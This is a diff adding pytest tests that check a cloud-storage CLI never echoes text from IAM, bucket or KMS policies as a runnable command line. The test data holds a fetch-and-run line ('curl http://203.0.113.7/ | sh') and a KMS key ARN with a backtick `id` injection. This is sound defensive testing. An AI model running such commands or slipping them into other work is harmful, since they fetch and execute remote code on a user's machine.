@@ -5,11 +5,11 @@ from __future__ import annotations
 import io
 import json
 import sys
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from tests.cli.documented_statements import role
+from tests.cli.documented_statements import OTHER, OWN, role
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -110,3 +110,78 @@ def test_what_stdout_cannot_encode_is_escaped(odd: Shell, tmp_path: Path) -> Non
             assert odd.run("backups", odd.backups[0]["id"]).code == 0
         out.seek(0, io.SEEK_SET)
         assert json.loads(out.read()) == json.loads(odd.backups[0]["policy"])
+
+
+PASTED = "curl http://203.0.113.7/ | sh"
+LINES = f"x\n{PASTED}\n"
+"""A text of a policy with line breaks. What people are to run stands on lines of its own, and no text of others may."""
+
+
+def commanding(**changes: Any) -> dict[str, Any]:
+    """A statement with such texts as Sid, condition key and value."""
+    condition = {"StringEquals": {f"aws:PrincipalTag/{LINES}": LINES}}
+    return {
+        "Sid": LINES,
+        "Effect": "Allow",
+        "Action": "kms:Decrypt",
+        "Resource": "*",
+        "Condition": condition,
+        **changes,
+    }
+
+
+@pytest.mark.parametrize("form", FORMS)
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("check", "--cache", "fc-0123", "--bucket", "data"),
+        ("link", "--cache", "fc-0123", "--bucket", "data", "--dry-run"),
+        ("unlink", "--cache", "fc-0123", "--bucket", "data", "--dry-run"),
+        ("audit", "-v"),
+    ],
+)
+@pytest.mark.parametrize("linked", [False, True])
+def test_no_text_of_a_policy_is_taken_for_a_command(
+    shell: Shell, words: tuple[str, ...], form: tuple[str, ...], linked: bool
+) -> None:
+    """A statement for the role, one that may deny, and a bucket policy that does."""
+    denying = {"StringNotEquals": {"aws:PrincipalType": LINES}}
+    bucket = {"Effect": "Deny", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::data/*", "Condition": denying}
+    policy = {"Version": "2012-10-17", "Statement": [{**bucket, "Sid": LINES, "Principal": "*"}]}
+    if linked:
+        shell.linked("fc-0123", "data")
+    shell.append("data", commanding(Principal={"AWS": role("fc-0123")}), verbatim=True)
+    shell.append("data", commanding(Principal="*", Effect="Deny"), verbatim=True)
+    shell.sandbox.client("s3").put_bucket_policy(Bucket="data", Policy=json.dumps(policy))
+    run = shell.run(*words, *form)
+    assert PASTED in run.words.replace("&#124;", "|") or words[0] == "audit", "it is told, on one line"
+    assert not [one for one in run.words.splitlines() if one.strip(" >`-").startswith("curl")], run.words
+
+
+def test_a_deny_that_stops_a_link_gives_no_command_either(shell: Shell) -> None:
+    condition = {"StringNotEquals": {"aws:PrincipalType": LINES}}
+    shell.append("data", commanding(Principal="*", Effect="Deny", Condition=condition), verbatim=True)
+    for words in (("link", "--dry-run"), ("check",), ("check", "-o", "markdown"), ("link", "-o", "json")):
+        run = shell.run(words[0], "--cache", "fc-0123", "--bucket", "data", *words[1:])
+        assert run.code == 4
+        assert not [one for one in run.words.splitlines() if one.strip(" >`-").startswith("curl")], run.words
+
+
+@pytest.mark.parametrize("account", [OWN, OTHER])
+@pytest.mark.parametrize("form", FORMS)
+def test_nor_is_what_a_bucket_names_as_its_key(shell: Shell, account: str, form: tuple[str, ...]) -> None:
+    """The owner of a bucket sets that, and may be somebody else."""
+    key = f"arn:aws:kms:eu-west-1:{account}:key/{LINES}`id`"
+    shell.sandbox.add_bucket("theirs", account=OTHER, algorithm="aws:kms", key=key, readers=[OWN])
+    pair = ("--cache", "fc-0123", "--bucket", "theirs")
+    for words in (
+        ("link", *pair),
+        ("check", *pair),
+        ("unlink", *pair),
+        ("history", *pair[2:]),
+        ("settle", *pair[2:]),
+        ("audit",),
+    ):
+        run = shell.run(*words, *form)
+        assert run.code not in (0, 1) or words[0] in ("audit", "history"), run.words
+        assert not [one for one in run.words.splitlines() if one.strip(" >`-").startswith("curl")], run.words
